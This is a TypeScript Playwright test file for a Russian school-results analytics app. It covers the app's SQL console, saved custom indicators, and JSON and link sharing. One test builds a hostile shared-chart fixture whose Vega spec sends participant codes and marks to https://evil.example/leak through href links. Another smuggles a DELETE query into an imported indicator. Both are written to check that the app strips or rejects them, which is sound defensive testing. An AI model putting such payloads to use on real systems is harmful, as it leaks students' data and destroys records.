import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { demoSpecs } from '../../src/core/demo/index.ts';
import { type AppSession, foreignRequests, gridRows, openApp, waitSaved } from './browser.ts';

/**
 * The SQL console and the user's own indicators, as a methodist uses them: type a query, get
 * rows, mistype one and be told where, complete a column name, save a query with `:year` as an
 * indicator, reload, pass it to a colleague as a .json file and as a link — opened in fresh
 * browser profiles (fresh sessions) that hold the same demo data.
 *
 * Expected numbers: `SELECT COUNT(*) … FROM school` is 8 (the demo has 8 ОО, as in
 * foundation.test.ts); the indicator's rows must equal the console's rows for the same SQL with
 * the year written in, in every session.
 */
const baseUrl = inject('baseUrl');

const INDICATOR_SQL = `SELECT v.grade AS grade, v.subject_code AS subject, COUNT(*) AS n, SUM(v.mark = 2) AS twos
FROM v_vpr v
WHERE v.year = :year
GROUP BY v.grade, v.subject_code
ORDER BY v.grade, v.subject_code`;

async function openConsole(page: Page): Promise<void> {
  await page.click('[data-testid="open-sql-console"]');
  // CodeMirror is loaded on first open; the testid is on its contenteditable
  await page.waitForSelector('[data-testid="sql-editor"].cm-content');
}

/** Runs `sql` in the console and returns the grid's rows once the status says how many. */
async function runInConsole(page: Page, sql: string): Promise<string[][]> {
  await page.fill('[data-testid="sql-editor"]', sql);
  await page.click('[data-testid="run-sql"]');
  await page.waitForSelector('[data-testid="sql-status"]');
  await page.waitForSelector('[data-testid="result-grid"] .ht_master tbody tr td');
  return gridRows(page);
}

async function editorText(page: Page): Promise<string> {
  return page.$eval('[data-testid="sql-editor"]', (el) => Array.from(el.querySelectorAll('.cm-line'), (l) => l.textContent).join('\n'));
}

/** The open indicator's grid after `year` is typed into its form. */
async function indicatorRows(page: Page, year: string, expected: string[][]): Promise<string[][]> {
  await page.fill('[data-testid="param-year"]', year);
  await page.press('[data-testid="param-year"]', 'Enter');
  await expect.poll(() => gridRows(page)).toEqual(expected);
  return gridRows(page);
}

describe('SQL console: editor, errors, completion, schema, history', () => {
  let app: AppSession;
  beforeAll(async () => {
    app = await openApp(baseUrl);
    await waitSaved(app.page);
    await openConsole(app.page);
  });
  afterAll(async () => {
    await app?.close();
  });

  it('a query typed into the editor runs and its exact rows are in the grid', async () => {
    const { page } = app;
    expect(await runInConsole(page, 'SELECT COUNT(*) AS n FROM school')).toEqual([['8']]);
    expect(await page.textContent('[data-testid="sql-status"]')).toBe('Строк в результате: 1');

    // typing, as a user would, and Ctrl+Enter
    await page.fill('[data-testid="sql-editor"]', '');
    await page.click('[data-testid="sql-editor"]');
    await page.keyboard.type('SELECT full_name FROM school WHERE school_id <= 2 ORDER BY school_id');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+Enter');
    await expect.poll(() => gridRows(page)).toEqual([['МБОУ «СОШ №1»'], ['МБОУ «СОШ №2»']]);
    // the result is charted only when there is a number to draw; a count by school is
    expect(await runInConsole(page, 'SELECT full_name AS school, school_id FROM school ORDER BY school_id')).toHaveLength(8);
    await page.waitForSelector('[data-testid="chart"] svg .mark-rect path');
    await page.selectOption('[data-testid="chart-mark"]', 'point');
    await page.waitForSelector('[data-testid="chart"] svg .mark-symbol path');
  });

  it('an SQL error is explained in Russian with its line and column, and the place is marked', async () => {
    const { page } = app;
    await page.fill('[data-testid="sql-editor"]', 'SELECT COUNT(*)\nFORM school');
    await page.click('[data-testid="run-sql"]');
    const error = await page.waitForSelector('[data-testid="sql-error"]');
    const text = await error.textContent();
    expect(text).toContain('Синтаксическая ошибка рядом с «school»');
    expect(text).toContain('строка 2, столбец 6');
    expect(text).toContain('«FORM» вместо FROM');
    expect(await page.textContent('.cm-sql-error')).toBe('school');

    await page.fill('[data-testid="sql-editor"]', 'SELECT short_nam FROM school');
    await page.click('[data-testid="run-sql"]');
    await expect.poll(() => page.textContent('[data-testid="sql-error"]')).toContain('Нет столбца «short_nam»');
    expect(await page.textContent('.cm-sql-error')).toBe('short_nam');
  });

  it('completion offers a column with its Russian description', async () => {
    const { page } = app;
    await page.fill('[data-testid="sql-editor"]', '');
    await page.click('[data-testid="sql-editor"]');
    await page.keyboard.type('SELECT fisoko_lo');
    const option = page.locator('.cm-tooltip-autocomplete li', { hasText: 'fisoko_login' });
    await option.first().waitFor();
    await expect.poll(() => page.textContent('.cm-completionInfo')).toContain('Логин ОО в ФИС ОКО');
    // a click on the option applies it (Enter would depend on CodeMirror's 75 ms guard after the list changes)
    await option.first().click();
    await expect.poll(() => editorText(page)).toBe('SELECT fisoko_login');
    await page.keyboard.press('End');
    // after `alias.` the columns of that table (lang-sql resolves the alias)
    await page.keyboard.type(' FROM school s WHERE s.short');
    await page.locator('.cm-tooltip-autocomplete li', { hasText: 'short_name' }).first().waitFor();
    await page.keyboard.press('Escape');
  });

  it('the schema browser describes columns in Russian and inserts a name on click', async () => {
    const { page } = app;
    await page.fill('[data-testid="sql-editor"]', 'SELECT  FROM school');
    await page.fill('input[aria-label="Поиск по схеме"]', 'логин');
    const column = page.locator('[data-testid="schema-column-school-fisoko_login"]');
    await column.waitFor();
    expect(await page.textContent('[data-testid="schema-table-school"]')).toContain('Логин ОО в ФИС ОКО');
    // put the cursor after «SELECT », then click the name
    await page.click('[data-testid="sql-editor"]');
    await page.keyboard.press('Control+Home');
    for (let i = 0; i < 'SELECT '.length; i++) await page.keyboard.press('ArrowRight');
    await column.click();
    expect(await editorText(page)).toBe('SELECT fisoko_login FROM school');
  });

  it('history keeps the session’s queries and restores one on click', async () => {
    const { page } = app;
    await page.click('[data-testid="sql-history-tab"]');
    const entries = page.locator('[data-testid="history-entry"]');
    await expect.poll(() => entries.count()).toBeGreaterThanOrEqual(4);
    await page.locator('[data-testid="history-entry"]', { hasText: 'SELECT COUNT(*) AS n FROM school' }).click();
    expect(await editorText(page)).toBe('SELECT COUNT(*) AS n FROM school');
    await page.click('[data-testid="run-sql"]');
    await expect.poll(() => gridRows(page)).toEqual([['8']]);
  });

  it('sent nothing beyond the origin and logged no errors', () => {
    expect(foreignRequests(app.requests, baseUrl)).toEqual([]);
    expect(app.errors).toEqual([]);
  });
});

describe('custom indicators: saved from the console, kept, exported, imported, shared by link', () => {
  const sessions: AppSession[] = [];
  let first: AppSession;
  /** the console's own answers for the SQL with the year written in */
  let expected2025: string[][];
  let expected2026: string[][];
  let file: Buffer;
  let link: string;

  beforeAll(async () => {
    first = await openApp(baseUrl);
    sessions.push(first);
    await waitSaved(first.page);
    await openConsole(first.page);
  });
  afterAll(async () => {
    for (const session of sessions) await session.close();
  });

  it('saves a query with :year as indicator U1 and runs it with a typed year', async () => {
    const { page } = first;
    expected2025 = await runInConsole(page, INDICATOR_SQL.replace(':year', '2025'));
    expected2026 = await runInConsole(page, INDICATOR_SQL.replace(':year', '2026'));
    // one row per demo work of 2025 (grade and subject)
    expect(expected2025).toHaveLength(demoSpecs().filter((spec) => spec.year === 2025).length);
    expect(expected2026).not.toEqual(expected2025);

    await page.fill('[data-testid="sql-editor"]', INDICATOR_SQL);
    await page.fill('[data-testid="sql-param-year"]', '2025');
    await page.click('[data-testid="run-sql"]');
    await expect.poll(() => gridRows(page)).toEqual(expected2025);

    await page.click('[data-testid="save-as-indicator"]');
    await page.fill('[data-testid="custom-title"]', 'Участники и «2» по классам и предметам');
    await page.fill('[data-testid="custom-formula"]', 'Число участников ВПР с отметкой и число «2» за год, по классу и предмету');
    expect(await page.inputValue('[data-testid="custom-param-type-year"]')).toBe('integer');
    await page.click('[data-testid="custom-save"]');

    // listed under «Мои показатели» and opened with the year the console ran it with
    await page.waitForSelector('[data-testid="indicator-U1"]');
    await page.waitForSelector('[data-testid="param-year"]');
    expect(await page.inputValue('[data-testid="param-year"]')).toBe('2025');
    await expect.poll(() => gridRows(page)).toEqual(expected2025);
    await indicatorRows(page, '2026', expected2026);
    await page.waitForSelector('[data-testid="chart"] svg');
  });

  it('is still there after a reload', async () => {
    const { page } = first;
    await waitSaved(page);
    await page.reload();
    await waitSaved(page);
    await page.click('[data-testid="indicator-U1"]');
    await indicatorRows(page, '2025', expected2025);
  });

  it('downloads as a small .json file with the method and no data', async () => {
    const { page } = first;
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="indicator-download"]')]);
    expect(download.suggestedFilename()).toMatch(/^показатель_U1_.*\.json$/);
    file = readFileSync(await download.path());
    const parsed = JSON.parse(file.toString('utf8'));
    expect(parsed).toMatchObject({ oko: 'indicator', version: 1, indicator: { id: 'U1', sql: INDICATOR_SQL } });
    expect(parsed.indicator.params).toEqual([{ name: 'year', label: 'Год', type: 'integer', default: 2025 }]);
    // numbers of the result are nowhere in it
    expect(file.toString('utf8')).not.toContain(expected2025[0][2]);
  });

  it('imports into a fresh session through import-input and gives the same numbers', async () => {
    const fresh = await openApp(baseUrl);
    sessions.push(fresh);
    const { page } = fresh;
    await waitSaved(page);
    expect(await page.$('[data-testid="indicator-U1"]')).toBeNull();
    await page.setInputFiles('[data-testid="import-input"]', { name: 'показатель.json', mimeType: 'application/json', buffer: file });
    // a file, like a link, asks first: nothing is added before the user has seen it
    await page.locator('[data-testid="indicator-confirm"]').waitFor();
    expect(await page.textContent('[data-testid="indicator-confirm-title"]')).toBe('Участники и «2» по классам и предметам');
    await expect.poll(() => page.textContent('[data-testid="indicator-confirm-reads"]')).toMatch(/Результаты участников.*\(result\).*mark/s);
    expect(await page.$('[data-testid="indicator-U1"]')).toBeNull();
    await page.click('[data-testid="indicator-confirm-add"]');
    await expect.poll(() => page.textContent('[data-testid="import-status"]')).toContain('U1');
    await page.waitForSelector('[data-testid="indicator-U1"]');
    await expect.poll(() => gridRows(page)).toEqual(expected2025);
    await indicatorRows(page, '2026', expected2026);

    // a file that is not an indicator is explained in Russian and adds nothing
    await page.setInputFiles('[data-testid="import-input"]', {
      name: 'не показатель.json',
      mimeType: 'application/json',
      buffer: Buffer.from('{"rows": [1, 2, 3]}'),
    });
    await expect
      .poll(() => page.textContent('[data-testid="import-error"]'))
      .toMatch(/«не показатель\.json» не загружен как показатель: Это не файл показателя Око/);
    await page.setInputFiles('[data-testid="indicator-import-input"]', {
      name: 'writes.json',
      mimeType: 'application/json',
      buffer: Buffer.from(file.toString('utf8').replace(/"sql": "[^"]*"/, '"sql": "DELETE FROM result WHERE year = :year"')),
    });
    await expect.poll(() => page.textContent('[data-testid="import-error"]')).toMatch(/«writes\.json».*только читать/);
    expect(await page.locator('[data-testid^="indicator-U"]').count()).toBe(1);
    expect(foreignRequests(fresh.requests, baseUrl)).toEqual([]);
    expect(fresh.errors).toEqual([]);
  });

  it('a link asks before adding (showing the SQL), then works in a fresh session', async () => {
    await first.page.click('[data-testid="indicator-share"]');
    link = await first.page.inputValue('[data-testid="indicator-link"]');
    expect(link.startsWith(`${baseUrl.replace(/\/$/, '')}/#indicator=`)).toBe(true);

    const fresh = await openApp(link);
    sessions.push(fresh);
    const { page } = fresh;
    await waitSaved(page);
    const dialog = page.locator('[data-testid="indicator-confirm"]');
    await dialog.waitFor();
    expect(await page.textContent('[data-testid="indicator-confirm-sql"]')).toBe(INDICATOR_SQL);
    expect(await page.textContent('[data-testid="indicator-confirm-title"]')).toBe('Участники и «2» по классам и предметам');
    // nothing was added or run before the user agrees; the hash is gone from the address
    expect(await page.$('[data-testid="indicator-U1"]')).toBeNull();
    expect(new URL(page.url()).hash).toBe('');

    await page.click('[data-testid="indicator-confirm-add"]');
    await page.waitForSelector('[data-testid="indicator-U1"]');
    await expect.poll(() => gridRows(page)).toEqual(expected2025);
    await indicatorRows(page, '2026', expected2026);

    // refusing adds nothing
    await page.goto(link);
    await waitSaved(page);
    await page.locator('[data-testid="indicator-confirm"]').waitFor();
    await page.click('[data-testid="indicator-confirm-cancel"]');
    expect(await page.locator('[data-testid^="indicator-U"]').count()).toBe(1);
    expect(foreignRequests(fresh.requests, baseUrl)).toEqual([]);
    expect(fresh.errors).toEqual([]);
  });

  it('a shared chart cannot send data anywhere: no menu, no links, nothing loaded, shown before adding', async () => {
    const fresh = await openApp(baseUrl);
    sessions.push(fresh);
    const { page } = fresh;
    await waitSaved(page);
    const leaking = {
      oko: 'indicator',
      version: 1,
      indicator: {
        id: 'U1',
        title: 'Отметки участников',
        mechanism: 'Свои показатели',
        source: 'коллега',
        formula: 'отметки',
        params: [],
        sql: 'SELECT school_id AS school, participant_code AS code, mark FROM v_vpr LIMIT 12',
        columns: [
          { name: 'school', label: 'ОО' },
          { name: 'code', label: 'Код' },
          { name: 'mark', label: 'Отметка' },
        ],
        chart: {
          usermeta: { embedOptions: { actions: true, editorUrl: 'https://evil.example/editor', i18n: { PNG_ACTION: 'Скачать отчёт (PDF)' } } },
          mark: { type: 'bar', href: 'https://evil.example/bar' },
          transform: [{ calculate: "'https://evil.example/leak?school=' + datum.school + '&code=' + datum.code + '&mark=' + datum.mark", as: 'link' }],
          encoding: { x: { field: 'mark', type: 'quantitative' }, y: { field: 'code', type: 'nominal' }, href: { field: 'link', type: 'nominal' } },
        },
      },
    };
    await page.setInputFiles('[data-testid="import-input"]', {
      name: 'отчёт.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(leaking)),
    });
    await page.locator('[data-testid="indicator-confirm"]').waitFor();
    expect(await page.textContent('[data-testid="indicator-confirm-chart"]')).toContain('столбцы; по горизонтали — mark; по вертикали — code');
    expect(await page.textContent('[data-testid="indicator-confirm-removed"]')).toContain('usermeta, mark.href, encoding.href');
    await expect.poll(() => page.textContent('[data-testid="indicator-confirm-reads"]')).toContain('participant_code');
    await page.click('[data-testid="indicator-confirm-add"]');
    await page.waitForSelector('[data-testid="chart"] svg .mark-rect path');
    const url = page.url();
    // no export menu, no link in the drawing, and a click on a bar goes nowhere
    expect(await page.locator('[data-testid="chart"] .vega-actions, [data-testid="chart"] details').count()).toBe(0);
    expect(await page.locator('[data-testid="chart"] svg a').count()).toBe(0);
    await page.locator('[data-testid="chart"] svg .mark-rect path').first().click({ force: true });
    await page.locator('[data-testid="chart"] svg .mark-rect path').first().dblclick({ force: true });
    expect(page.url()).toBe(url);
    expect(fresh.context.pages()).toHaveLength(1);
    expect(foreignRequests(fresh.requests, baseUrl)).toEqual([]);
    expect(fresh.errors).toEqual([]);
  });

  it('a damaged link is explained and adds nothing', async () => {
    const fresh = await openApp(`${baseUrl}#indicator=z.AAAA`);
    sessions.push(fresh);
    const { page } = fresh;
    await waitSaved(page);
    await expect
      .poll(() => page.locator('[role="alert"], .notice').allTextContents())
      .toEqual(expect.arrayContaining([expect.stringContaining('Ссылка на показатель не открыта')]));
    expect(await page.locator('[data-testid^="indicator-U"]').count()).toBe(0);
  });

  it('sent nothing beyond the origin and logged no errors', () => {
    expect(foreignRequests(first.requests, baseUrl)).toEqual([]);
    expect(first.errors).toEqual([]);
  });
});
